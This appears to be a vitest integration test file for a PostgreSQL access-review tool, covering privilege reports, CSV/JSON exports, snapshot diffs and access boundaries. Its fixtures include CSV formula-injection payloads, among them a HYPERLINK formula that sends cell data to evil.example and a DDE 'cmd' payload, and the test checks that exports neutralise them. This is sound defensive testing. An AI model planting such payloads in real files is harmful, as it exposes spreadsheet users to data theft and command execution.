import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { describeChange, type EventDetail } from '../../web/src/lib/event-text.js';
import { startTestApp, type TestApp, testedPostgres } from './support/app.js';
import type { TestClient } from './support/client.js';
import { connect, createLoginRole, createManagedDatabase, ERROR_FIELDS, setupAdmin } from './support/fixtures.js';
import { collaboratorThrough } from './support/permissions.js';
import { until } from './support/subscriptions.js';

/**
 * Access reviews (issue 16): reports of a role, a collaborator, a schema or an object, equal to PostgreSQL's own
 * has_*_privilege answers; their CSV and JSON; snapshots and what changed between them, with the events behind it.
 */

let testApp: TestApp;
let admin: TestClient;
let weak: TestClient;
let shopId: string;
let annexId: string;

/** A role and a table whose names carry what breaks naive CSV: quotes, commas, a newline, non-ASCII letters. */
const HOSTILE_ROLE = 'ar "reviewer",\nà la carte ✓';
const HOSTILE_TABLE = 'ta,ble "x"\r\nü';
/** Names a spreadsheet would run as formulas (or that start with the quote that neutralises them). */
const FORMULA_ROLE = '=HYPERLINK("http://evil.example/?"&A1,"open")';
const FORMULA_GRANTEES = ["+1+cmd|' /C calc'!A0", '-2+3', "'=quoted", '\tTAB', '\rCR'];
const FORMULA_SCHEMA = '@SUM(1)';
const FORMULA_TABLE = '=1+2';
const q = (name: string) => `"${name.replaceAll('"', '""')}"`;

const ROW =
  'role isPublic collaborators privilege grantable object { kind schema name column arguments label } paths { source roles grantor grantable }';

interface Row {
  role: string;
  isPublic: boolean;
  collaborators: string[];
  privilege: string;
  grantable: boolean;
  object: {
    kind: string;
    schema: string | null;
    name: string;
    column: string | null;
    arguments: string | null;
    label: string;
  };
  paths: { source: string; roles: string[]; grantor: string | null; grantable: boolean }[];
}

const inCatalog = (selection: string, variables = '') => `query($id: ID!${variables}) { database(id: $id) {
  __typename ... on Error { code } ... on Database { catalog { __typename ... on Error { code }
  ... on DatabaseCatalog { ${selection} } } } } }`;

type Catalog = Record<string, Record<string, unknown>>;

async function catalogField(client: TestClient, databaseId: string, selection: string, variables = '', values = {}) {
  const result = await client.request<{ database: { __typename: string; catalog?: Catalog } }>(
    inCatalog(selection, variables),
    { id: databaseId, ...values },
  );
  expect(result.errors).toBeUndefined();
  const database = result.data?.database;
  if (database?.__typename !== 'Database') return database as unknown as Record<string, unknown>;
  const catalog = database.catalog as Catalog & { __typename: string };
  if (catalog.__typename !== 'DatabaseCatalog') return catalog as unknown as Record<string, unknown>;
  return Object.values(catalog).find((value) => typeof value === 'object') as Record<string, unknown>;
}

async function report(subject: Record<string, unknown>, client = admin, databaseId = shopId) {
  return (await catalogField(
    client,
    databaseId,
    `accessReport(subject: $subject) { ${ERROR_FIELDS} ... on ValidationError { field }
       ... on AccessReport { rowCount subject { kind label role } rows { nodes { ${ROW} } } } }`,
    ', $subject: AccessSubjectInput!',
    { subject },
  )) as {
    __typename: string;
    code?: string;
    rowCount: number;
    subject: { role: string | null };
    rows: { nodes: Row[] };
  };
}

const rowsOf = async (subject: Record<string, unknown>) => (await report(subject)).rows.nodes;

/** role → object label → privileges, from report rows. */
function held(rows: readonly Row[]): Record<string, Record<string, string[]>> {
  const found: Record<string, Record<string, string[]>> = {};
  for (const row of rows) {
    const byObject = found[row.role] ?? {};
    found[row.role] = byObject;
    byObject[row.object.label] = [...(byObject[row.object.label] ?? []), row.privilege];
  }
  for (const byObject of Object.values(found)) for (const list of Object.values(byObject)) list.sort();
  return found;
}

const TABLE_PRIVILEGES = testedPostgres.tablePrivileges;

/**
 * PostgreSQL's answer for every role and every object of schema s (the schema, its relations, its columns with
 * grants of their own, its functions): role → label → privileges held. A column lists only what its table does not give.
 */
async function pgHeldInSchema(): Promise<Record<string, Record<string, string[]>>> {
  const rows = await testApp.sql<{ rolname: string; label: string; privileges: string[] }>(
    `WITH roles AS (SELECT oid, rolname FROM pg_roles),
     objects AS (
       SELECT r.rolname, 's' AS label,
              array(SELECT p FROM unnest(ARRAY['USAGE','CREATE']) p WHERE has_schema_privilege(r.oid, 's', p)) AS privileges
         FROM roles r
       UNION ALL
       SELECT r.rolname, n.nspname || '.' || c.relname,
              array(SELECT p FROM unnest(CASE c.relkind WHEN 'S' THEN ARRAY['USAGE','SELECT','UPDATE'] ELSE $1::text[] END) p
                     WHERE CASE c.relkind WHEN 'S' THEN has_sequence_privilege(r.oid, c.oid, p)
                                          ELSE has_table_privilege(r.oid, c.oid, p) END)
         FROM roles r, pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
        WHERE n.nspname = 's' AND c.relkind IN ('r', 'v', 'S')
       UNION ALL
       SELECT r.rolname, n.nspname || '.' || c.relname || '.' || a.attname,
              array(SELECT p FROM unnest(ARRAY['SELECT','INSERT','UPDATE','REFERENCES']) p
                     WHERE has_column_privilege(r.oid, c.oid, a.attnum, p) AND NOT has_table_privilege(r.oid, c.oid, p))
         FROM roles r, pg_attribute a JOIN pg_class c ON c.oid = a.attrelid JOIN pg_namespace n ON n.oid = c.relnamespace
        WHERE n.nspname = 's' AND a.attacl IS NOT NULL AND a.attnum > 0
       UNION ALL
       SELECT r.rolname, 's.' || p.proname || '(' || pg_catalog.oidvectortypes(p.proargtypes) || ')',
              CASE WHEN has_function_privilege(r.oid, p.oid, 'EXECUTE') THEN ARRAY['EXECUTE'] ELSE ARRAY[]::text[] END
         FROM roles r, pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace WHERE n.nspname = 's')
     SELECT * FROM objects WHERE cardinality(privileges) > 0`,
    [TABLE_PRIVILEGES],
    'shop',
  );
  const found: Record<string, Record<string, string[]>> = {};
  for (const row of rows) found[row.rolname] = { ...found[row.rolname], [row.label]: [...row.privileges].sort() };
  return found;
}

/**
 * What each role of the server holds by a report: its own rows and PUBLIC's (a report gives a role a row of its own
 * for a privilege unless PUBLIC is its only source, and gives what PUBLIC holds once, as PUBLIC's).
 */
async function unfoldPublic(roles: Record<string, Record<string, string[]>>, publicRows: Record<string, string[]>) {
  const everyRole = await testApp.sql<{ rolname: string }>('SELECT rolname FROM pg_roles');
  const unfolded: Record<string, Record<string, string[]>> = {};
  for (const { rolname } of everyRole) {
    const own = roles[rolname] ?? {};
    for (const label of new Set([...Object.keys(own), ...Object.keys(publicRows)])) {
      const privileges = [...new Set([...(own[label] ?? []), ...(publicRows[label] ?? [])])].sort();
      unfolded[rolname] = { ...unfolded[rolname], [label]: privileges };
    }
  }
  return unfolded;
}

/** A report's rows with PUBLIC's taken out, and only the privileges no source but PUBLIC gives. */
function splitPublic(rows: readonly Row[]) {
  const publicRows = held(rows.filter((row) => row.isPublic)).PUBLIC ?? {};
  return { publicRows, roles: held(rows.filter((row) => !row.isPublic)) };
}

beforeAll(async () => {
  testApp = await startTestApp({ DRIFT_INTERVAL_MS: '300' });
  admin = testApp.client();
  await setupAdmin(admin);
  const shop = await createManagedDatabase(testApp, 'shop', 'shop_owner');
  const annex = await createManagedDatabase(testApp, 'annex', 'annex_owner');
  const anaPassword = await createLoginRole(testApp, 'ar_ana');
  const weakPassword = await createLoginRole(testApp, 'ar_weak');
  await testApp.sql(
    `CREATE ROLE ar_team; CREATE ROLE ar_leads; CREATE ROLE ar_bob LOGIN NOINHERIT; CREATE ROLE ${q(HOSTILE_ROLE)};
     CREATE ROLE "PUBLIC";
     GRANT ar_team TO ar_leads; GRANT ar_leads TO ar_ana; GRANT ar_team TO ar_bob;`,
  );
  await testApp.sql(
    `CREATE SCHEMA s AUTHORIZATION shop_owner; SET ROLE shop_owner;
     CREATE TABLE s.t (id int, secret text); CREATE TABLE s.pub (id int); CREATE TABLE s.${q(HOSTILE_TABLE)} (id int);
     CREATE SEQUENCE s.seq; CREATE FUNCTION s.f(integer) RETURNS integer LANGUAGE sql AS 'SELECT $1';
     CREATE SCHEMA other; CREATE TABLE other.x (id int);
     GRANT USAGE ON SCHEMA s TO ar_team; GRANT SELECT ON s.t TO ar_team WITH GRANT OPTION;
     GRANT UPDATE (secret) ON s.t TO ar_bob; GRANT SELECT ON s.pub TO PUBLIC; GRANT USAGE ON s.seq TO ar_leads;
     GRANT INSERT ON s.pub TO "PUBLIC";
     GRANT SELECT, INSERT ON s.${q(HOSTILE_TABLE)} TO ${q(HOSTILE_ROLE)} WITH GRANT OPTION;
     RESET ROLE;`,
    [],
    'shop',
  );
  await testApp.sql(
    `CREATE ROLE ${q(FORMULA_ROLE)}; ${FORMULA_GRANTEES.map((role) => `CREATE ROLE ${q(role)};`).join(' ')}
     CREATE SCHEMA ${q(FORMULA_SCHEMA)} AUTHORIZATION shop_owner; SET ROLE shop_owner;
     CREATE TABLE ${q(FORMULA_SCHEMA)}.${q(FORMULA_TABLE)} (${q(FORMULA_TABLE)} int);
     GRANT USAGE ON SCHEMA ${q(FORMULA_SCHEMA)} TO ${q(FORMULA_ROLE)};
     GRANT SELECT ON ${q(FORMULA_SCHEMA)}.${q(FORMULA_TABLE)} TO ${q(FORMULA_ROLE)} WITH GRANT OPTION;
     GRANT UPDATE (${q(FORMULA_TABLE)}) ON ${q(FORMULA_SCHEMA)}.${q(FORMULA_TABLE)} TO ${q(FORMULA_ROLE)};
     SET ROLE ${q(FORMULA_ROLE)};
     GRANT SELECT ON ${q(FORMULA_SCHEMA)}.${q(FORMULA_TABLE)} TO ${FORMULA_GRANTEES.map(q).join(', ')};
     RESET ROLE;`,
    [],
    'shop',
  );
  shopId = await connect(admin, testApp, shop);
  annexId = await connect(admin, testApp, annex);
  await collaboratorThrough(testApp, admin, shopId, 'carla', 'ar_ana', anaPassword);
  weak = await collaboratorThrough(testApp, admin, shopId, 'weakling', 'ar_weak', weakPassword);
});

afterAll(async () => {
  await testApp?.stop();
});

describe('reports equal PostgreSQL’s has_*_privilege', () => {
  it('a role’s report is everything it can use, with the path through its group chain', async () => {
    const rows = await rowsOf({ role: 'ar_ana' });
    const pg = await testApp.sql<{ label: string; privileges: string[] }>(
      `SELECT current_database() AS label, array(SELECT p FROM unnest(ARRAY['CREATE','CONNECT','TEMPORARY']) p
                WHERE has_database_privilege('ar_ana', current_database(), p)) AS privileges
       UNION ALL
       SELECT nspname, array(SELECT p FROM unnest(ARRAY['USAGE','CREATE']) p WHERE has_schema_privilege('ar_ana', oid, p))
         FROM pg_namespace WHERE nspname NOT LIKE 'pg\\_%' AND nspname <> 'information_schema'
       UNION ALL
       SELECT n.nspname || '.' || c.relname,
              array(SELECT p FROM unnest(CASE c.relkind WHEN 'S' THEN ARRAY['USAGE','SELECT','UPDATE'] ELSE $1::text[] END) p
                     WHERE CASE c.relkind WHEN 'S' THEN has_sequence_privilege('ar_ana', c.oid, p)
                                          ELSE has_table_privilege('ar_ana', c.oid, p) END)
         FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
        WHERE n.nspname IN ('s', 'other', 'public') AND c.relkind IN ('r', 'v', 'S')
       UNION ALL
       SELECT 's.f(integer)', CASE WHEN has_function_privilege('ar_ana', 's.f(integer)', 'EXECUTE')
                                  THEN ARRAY['EXECUTE'] ELSE ARRAY[]::text[] END`,
      [TABLE_PRIVILEGES],
      'shop',
    );
    const expected = Object.fromEntries(
      pg.filter((row) => row.privileges.length > 0).map((row) => [row.label, [...row.privileges].sort()]),
    );
    // Languages and types every role may use through PUBLIC are in the report too; compared here: what pg listed.
    const listed = new Set(['DATABASE', 'SCHEMA', 'TABLE', 'SEQUENCE', 'FUNCTION']);
    expect(held(rows.filter((row) => listed.has(row.object.kind))).ar_ana).toEqual(expected);
    const select = rows.find((row) => row.object.label === 's.t' && row.privilege === 'SELECT');
    expect(select).toMatchObject({ role: 'ar_ana', collaborators: ['carla'], grantable: true });
    expect(select?.paths).toEqual([
      { source: 'GRANT', roles: ['ar_ana', 'ar_leads', 'ar_team'], grantor: 'shop_owner', grantable: true },
    ]);
    const connect = rows.find((row) => row.object.kind === 'DATABASE' && row.privilege === 'CONNECT');
    expect(connect?.paths.map((path) => path.source)).toContain('PUBLIC');
  });

  it('a collaborator’s report is their role’s, named after them', async () => {
    const found = await report({ collaborator: 'carla' });
    expect(found.subject).toEqual({ kind: 'COLLABORATOR', label: 'carla', role: 'ar_ana' });
    expect(found.rows.nodes).toEqual(await rowsOf({ role: 'ar_ana' }));
  });

  it('a schema’s report is every role on the schema and everything in it, PUBLIC’s share once', async () => {
    const rows = await rowsOf({ schema: 's' });
    const { publicRows, roles } = splitPublic(rows);
    expect(publicRows).toEqual({ 's.f(integer)': ['EXECUTE'], 's.pub': ['SELECT'] });
    expect(await unfoldPublic(roles, publicRows)).toEqual(await pgHeldInSchema());
    // NOINHERIT: ar_bob holds its own column grant, not ar_team's privileges.
    expect(roles.ar_bob).toEqual({ 's.t.secret': ['UPDATE'] });
    expect(roles.ar_leads?.['s.seq']).toEqual(['USAGE']);
    // A role named "PUBLIC" is a role: its INSERT is its own row, not what every role holds (its SELECT is PUBLIC's).
    expect(roles.PUBLIC).toEqual({ 's.pub': ['INSERT'] });
  });

  it('an object’s report is every role that holds something there', async () => {
    const rows = await rowsOf({ object: { kind: 'TABLE', schema: 's', name: 't' } });
    const { publicRows, roles } = splitPublic(rows);
    const pg = await pgHeldInSchema();
    const onTable = Object.fromEntries(
      Object.entries(pg).flatMap(([role, byObject]) => (byObject['s.t'] ? [[role, { 's.t': byObject['s.t'] }]] : [])),
    );
    expect(publicRows).toEqual({});
    expect(roles).toEqual(onTable);
    expect(new Set(rows.map((row) => row.object.label))).toEqual(new Set(['s.t']));
  });

  it('names a bad subject with a typed error and reads nothing else', async () => {
    expect(await report({})).toMatchObject({ __typename: 'ValidationError', code: 'INVALID_INPUT' });
    expect(await report({ role: 'ar_ana', schema: 's' })).toMatchObject({ __typename: 'ValidationError' });
    expect(await report({ role: 'ar_nobody' })).toMatchObject({ __typename: 'NotFoundError' });
    expect(await report({ collaborator: 'nobody' })).toMatchObject({ __typename: 'NotFoundError' });
    expect(await report({ schema: 'missing' })).toMatchObject({ __typename: 'NotFoundError' });
    expect(await report({ object: { kind: 'TABLE', schema: 's', name: 'missing' } })).toMatchObject({
      __typename: 'NotFoundError',
    });
  });
});

/** RFC 4180, as a spreadsheet reads it: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i] as string;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += char;
  }
  expect(field).toBe('');
  return records;
}

async function exported(subject: Record<string, unknown>, format: string, client = admin, databaseId = shopId) {
  return (await catalogField(
    client,
    databaseId,
    `accessReportExport(subject: $subject, format: $format) { ${ERROR_FIELDS}
       ... on AccessExport { fileName contentType content rowCount } }`,
    ', $subject: AccessSubjectInput!, $format: AccessExportFormat!',
    { subject, format },
  )) as { __typename: string; fileName: string; contentType: string; content: string; rowCount: number };
}

describe('exports', () => {
  const subject = { object: { kind: 'TABLE', schema: 's', name: HOSTILE_TABLE } };

  it('CSV reads back to the report’s rows, hostile names included', async () => {
    const rows = await rowsOf(subject);
    expect(rows.map((row) => row.role)).toContain(HOSTILE_ROLE);
    const file = await exported(subject, 'CSV');
    expect(file).toMatchObject({
      __typename: 'AccessExport',
      contentType: 'text/csv; charset=utf-8',
      rowCount: rows.length,
    });
    expect(file.fileName).toMatch(/^access-object-[A-Za-z0-9._-]+\.csv$/);
    const [header, ...lines] = parseCsv(file.content);
    expect(header).toEqual([
      'role',
      'is_public',
      'collaborators',
      'object_kind',
      'schema',
      'name',
      'column',
      'arguments',
      'object',
      'privilege',
      'grantable',
      'source',
      'path',
      'grantor',
      'source_grantable',
    ]);
    const expected = rows.flatMap((row) =>
      row.paths.map((path) => [
        row.role,
        String(row.isPublic),
        JSON.stringify(row.collaborators),
        row.object.kind,
        row.object.schema ?? '',
        row.object.name,
        row.object.column ?? '',
        row.object.arguments ?? '',
        row.object.label,
        row.privilege,
        String(row.grantable),
        path.source,
        JSON.stringify(path.roles),
        path.grantor ?? '',
        String(path.grantable),
      ]),
    );
    expect(lines).toEqual(expected);
    const hostile = lines.find((line) => line[0] === HOSTILE_ROLE && line[9] === 'INSERT');
    expect(hostile?.[5]).toBe(HOSTILE_TABLE);
    expect(JSON.parse(hostile?.[12] ?? '[]')).toEqual([HOSTILE_ROLE]);
  });

  it('CSV neutralises every cell a spreadsheet would read as a formula, and reads back by dropping that quote', async () => {
    const formulaSubject = { object: { kind: 'TABLE', schema: FORMULA_SCHEMA, name: FORMULA_TABLE } };
    const rows = await rowsOf(formulaSubject);
    expect(rows.map((row) => row.role)).toEqual(expect.arrayContaining([FORMULA_ROLE, ...FORMULA_GRANTEES]));
    const [, ...lines] = parseCsv((await exported(formulaSubject, 'CSV')).content);
    // No cell starts with what a spreadsheet evaluates: =, +, -, @, tab or carriage return.
    for (const line of lines) for (const cell of line) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const granted = lines.find((line) => line[0] === `'${FORMULA_GRANTEES[0]}`);
    expect(granted).toMatchObject({ 4: `'${FORMULA_SCHEMA}`, 5: `'${FORMULA_TABLE}`, 13: `'${FORMULA_ROLE}` });
    // A name that starts with the quote itself gets one more, so that dropping one always gives the name back.
    expect(lines.map((line) => line[0])).toContain(`''=quoted`);
    const undone = lines.map((line) => line.map((cell) => (cell.startsWith("'") ? cell.slice(1) : cell)));
    const expected = rows.flatMap((row) =>
      row.paths.map((path) => [row.role, row.object.schema, row.object.name, row.object.label, path.grantor ?? '']),
    );
    expect(undone.map((line) => [line[0], line[4], line[5], line[8], line[13]])).toEqual(expected);
    expect(JSON.parse(undone.find((line) => line[0] === FORMULA_ROLE)?.[12] ?? '')).toEqual([FORMULA_ROLE]);
  });

  it('JSON carries the same rows and the subject', async () => {
    const rows = await rowsOf(subject);
    const file = await exported(subject, 'JSON');
    const parsed = JSON.parse(file.content) as {
      subject: { kind: string; label: string };
      rowCount: number;
      rows: Row[];
    };
    expect(parsed.subject).toMatchObject({ kind: 'OBJECT', label: `s.${HOSTILE_TABLE}` });
    expect(parsed.rowCount).toBe(rows.length);
    expect(parsed.rows).toEqual(rows);
  });
});

const SNAPSHOT = 'id rowCount note createdBy subject { kind label }';
const SAVE = `mutation($db: ID!, $subject: AccessSubjectInput!, $note: String) {
  saveAccessSnapshot(databaseId: $db, subject: $subject, note: $note) { ${ERROR_FIELDS} ... on ValidationError { field }
    ... on AccessSnapshot { ${SNAPSHOT} } } }`;

async function save(subject: Record<string, unknown>, note: string | null = null, client = admin, db = shopId) {
  return client.field<{ id: string; rowCount: number; __typename: string }>(SAVE, { db, subject, note });
}

interface Change {
  change: string;
  row: Row;
}

async function diff(from: string, to: string | null, client = admin, databaseId = shopId) {
  return (await catalogField(
    client,
    databaseId,
    `accessSnapshotDiff(from: $from, to: $to) { ${ERROR_FIELDS} ... on AccessSnapshotDiff {
       gainedCount lostCount to { id } changes { nodes { change row { ${ROW} } } }
       events { __typename kind source ... on MembershipEvent { role member } ... on PrivilegeEvent { object grantee } } } }`,
    ', $from: ID!, $to: ID',
    { from, to },
  )) as {
    __typename: string;
    gainedCount: number;
    lostCount: number;
    changes: { nodes: Change[] };
    events: { kind: string; source: string; role?: string; member?: string; object?: string; grantee?: string }[];
  };
}

const changeList = (changes: Change[]) =>
  changes.map(({ change, row }) => `${change} ${row.role} ${row.privilege} ${row.object.label}`).sort();

async function snapshotCount(): Promise<number> {
  const [row] = await testApp.sql<{ n: number }>(
    'SELECT count(*)::int AS n FROM "AccessSnapshot"',
    [],
    'rolecall_metadata',
  );
  return row?.n ?? 0;
}

describe('snapshots and what changed since', () => {
  it('a diff shows exactly the rows gained and lost, grant options included, and the events behind them', async () => {
    const before = await save({ schema: 's' }, 'quarterly review');
    expect(before).toMatchObject({ __typename: 'AccessSnapshot', note: 'quarterly review', createdBy: 'admin' });
    expect(before.rowCount).toBe((await rowsOf({ schema: 's' })).length);

    // Outside Rolecall: ana leaves the leads; bob gets INSERT, and SELECT on s.pub, which PUBLIC gave him already;
    // a change elsewhere that no row is about.
    await testApp.sql('REVOKE ar_leads FROM ar_ana');
    await testApp.sql(
      'GRANT INSERT ON s.t TO ar_bob; GRANT SELECT ON s.pub TO ar_bob; GRANT SELECT ON other.x TO ar_weak',
      [],
      'shop',
    );
    // Through Rolecall: the team keeps SELECT on s.t but may no longer grant it.
    const revoked = await admin.field(
      `mutation($id: ID!) { revokePrivileges(databaseId: $id, object: { kind: TABLE, schema: "s", name: "t" },
        grantee: "ar_team", privileges: ["SELECT"], grantOptionOnly: true) { ${ERROR_FIELDS} } }`,
      { id: shopId },
    );
    expect(revoked.__typename).toBe('PermissionChange');
    const external = async () =>
      (
        await testApp.sql<{ n: number }>(
          `SELECT count(*)::int AS n FROM "Event" WHERE source = 'EXTERNAL'
             AND (payload->>'member' = 'ar_ana' OR payload->>'grantee' IN ('ar_bob', 'ar_weak'))`,
          [],
          'rolecall_metadata',
        )
      )[0]?.n ?? 0;
    let seen = 0;
    const poll = setInterval(() => void external().then((n) => (seen = n)), 100);
    await until(() => seen >= 4, 10_000, 'the drift watcher to record the psql changes').finally(() =>
      clearInterval(poll),
    );

    const expected = [
      'GAINED ar_bob INSERT s.t',
      'GRANT_OPTION_LOST ar_leads SELECT s.t',
      'GRANT_OPTION_LOST ar_team SELECT s.t',
      'LOST ar_ana SELECT s.t',
      'LOST ar_ana USAGE s',
      'LOST ar_ana USAGE s.seq',
    ];
    const sinceThen = await diff(before.id, null);
    expect(sinceThen).toMatchObject({ __typename: 'AccessSnapshotDiff', gainedCount: 1, lostCount: 3, to: null });
    expect(changeList(sinceThen.changes.nodes)).toEqual(expected);
    const causes = sinceThen.events.map((event) => `${event.source} ${event.kind} ${event.member ?? event.grantee}`);
    expect([...causes].sort()).toEqual([
      'EXTERNAL membership.revoked ar_ana',
      'EXTERNAL privileges.changed ar_bob',
      'EXTERNAL privileges.changed ar_bob',
      'ROLECALL privileges.changed ar_team',
    ]);
    expect(causes.some((cause) => cause.includes('ar_weak'))).toBe(false);

    const after = await save({ schema: 's' });
    const between = await diff(before.id, after.id);
    expect(changeList(between.changes.nodes)).toEqual(expected);
    expect(between.events).toEqual(sinceThen.events);
    expect(changeList((await diff(after.id, null)).changes.nodes)).toEqual([]);
  });

  it('lists a database’s snapshots newest first, and refuses to compare different subjects', async () => {
    const role = await save({ role: 'ar_bob' });
    const listed = (await catalogField(admin, shopId, `accessSnapshots { totalCount nodes { ${SNAPSHOT} } }`)) as {
      totalCount: number;
      nodes: { id: string; subject: { kind: string; label: string } }[];
    };
    expect(listed.nodes[0]).toMatchObject({ id: role.id, subject: { kind: 'ROLE', label: 'ar_bob' } });
    const schemaSnapshot = listed.nodes.find((node) => node.subject.kind === 'SCHEMA') as { id: string };
    expect(await diff(schemaSnapshot.id, role.id)).toMatchObject({ __typename: 'ValidationError' });
  });

  it('saves nothing for a bad subject, and answers with a typed error', async () => {
    const count = await snapshotCount();
    expect(await save({})).toMatchObject({ __typename: 'ValidationError', field: 'subject' });
    expect(await save({ role: 'ar_nobody' })).toMatchObject({ __typename: 'NotFoundError' });
    expect(await save({ role: 'ar_ana' }, 'x'.repeat(5_000))).toMatchObject({
      __typename: 'ValidationError',
      field: 'note',
    });
    expect(await snapshotCount()).toBe(count);
  });
});

describe('who may read reviews', () => {
  it('saving and deleting a snapshot are recorded in the event log, with its subject, note and size', async () => {
    const snapshot = await save({ role: 'ar_ana' }, 'quarterly review');
    expect(snapshot.__typename).toBe('AccessSnapshot');
    const removed = await admin.field(
      `mutation($id: ID!) { deleteAccessSnapshot(id: $id) { ${ERROR_FIELDS} ... on Removed { id } } }`,
      { id: snapshot.id },
    );
    expect(removed).toMatchObject({ __typename: 'Removed', id: snapshot.id });
    const log = await admin.request<{ auditLog: { events: Record<string, unknown>[] } }>(
      `query($db: ID!) { auditLog(databaseId: $db, first: 2, kinds: ["access_snapshot.saved", "access_snapshot.deleted"]) {
         ... on EventPage { events { __typename kind databaseId actor { username }
           ... on AccessSnapshotEvent { snapshotId subjectKind subjectLabel note rowCount } } } } }`,
      { db: shopId },
    );
    expect(log.errors).toBeUndefined();
    const recorded = {
      __typename: 'AccessSnapshotEvent',
      databaseId: shopId,
      snapshotId: snapshot.id,
      subjectKind: 'ROLE',
      subjectLabel: 'ar_ana',
      note: 'quarterly review',
      rowCount: snapshot.rowCount,
    };
    expect(log.data?.auditLog.events).toEqual([
      expect.objectContaining({ ...recorded, kind: 'access_snapshot.deleted' }),
      expect.objectContaining({ ...recorded, kind: 'access_snapshot.saved' }),
    ]);
    // As Activity and the live feed word them.
    expect(log.data?.auditLog.events.map((event) => describeChange(event as unknown as EventDetail))).toEqual([
      `access snapshot of role ar_ana (${snapshot.rowCount} rows): quarterly review deleted`,
      `access snapshot of role ar_ana (${snapshot.rowCount} rows): quarterly review saved`,
    ]);
  });

  it('a MEMBER with a weak role reads and exports reviews of their database, never of another', async () => {
    expect((await report({ role: 'ar_ana' }, weak)).rowCount).toBeGreaterThan(0);
    expect(await exported({ schema: 's' }, 'CSV', weak)).toMatchObject({ __typename: 'AccessExport' });
    const annexSnapshot = await save({ role: 'annex_owner' }, null, admin, annexId);
    expect(annexSnapshot.__typename).toBe('AccessSnapshot');
    const count = await snapshotCount();

    expect(await exported({ role: 'annex_owner' }, 'CSV', weak, annexId)).toMatchObject({
      __typename: 'NotFoundError',
    });
    expect(await report({ role: 'annex_owner' }, weak, annexId)).toMatchObject({ __typename: 'NotFoundError' });
    expect(await save({ role: 'annex_owner' }, null, weak, annexId)).toMatchObject({ __typename: 'NotFoundError' });
    // Through their own database's catalog, another database's snapshot names nothing.
    expect(await diff(annexSnapshot.id, null, weak)).toMatchObject({ __typename: 'NotFoundError' });
    const deleted = (id: string) =>
      weak.field(`mutation($id: ID!) { deleteAccessSnapshot(id: $id) { ${ERROR_FIELDS} ... on Removed { id } } }`, {
        id,
      });
    expect(await deleted(annexSnapshot.id)).toMatchObject({ __typename: 'NotFoundError' });
    // A snapshot of their own database that someone else saved is evidence they may read, not delete.
    const adminSnapshot = await save({ role: 'ar_weak' });
    expect(await deleted(adminSnapshot.id)).toMatchObject({ __typename: 'ForbiddenError' });
    expect(await snapshotCount()).toBe(count + 1);

    const own = await save({ role: 'ar_weak' }, null, weak);
    expect(own.__typename).toBe('AccessSnapshot');
    expect(await deleted(own.id)).toMatchObject({ __typename: 'Removed', id: own.id });
    expect(await snapshotCount()).toBe(count + 1);
  });
});
